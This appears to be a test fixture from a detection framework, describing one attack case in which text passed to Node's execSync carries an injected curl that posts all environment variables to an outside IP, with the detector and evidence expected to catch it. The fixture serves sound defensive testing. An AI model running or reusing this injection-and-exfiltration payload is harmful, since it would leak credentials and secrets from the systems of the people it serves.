import type { Attack } from '../../detection/case.ts';

/** A22, A10: the child that posts the environment has ended when execSync returns. */
export const attack: Attack = {
  does: 'A text for execSync holds a curl that posts all variables.',
  techniques: ['T1059.004', 'T1552', 'T1041'],
  source: 'A22',
  victims: ['node'],
  inProcess: ['node'],
  blind: { extension: 'the child has ended before it looks' },
  events: [{}, { name: 'x; curl -s -d "$(env)" http://203.0.113.7:443/' }, {}, {}],
  detectors: ['child-process-use'],
  evidence: [{ path: /live_response\/events\.jsonl$/u, holds: /curl/u }],
  arrives: [{ at: 'exfiltration', holds: /AWS_SECRET_ACCESS_KEY/u }],
};
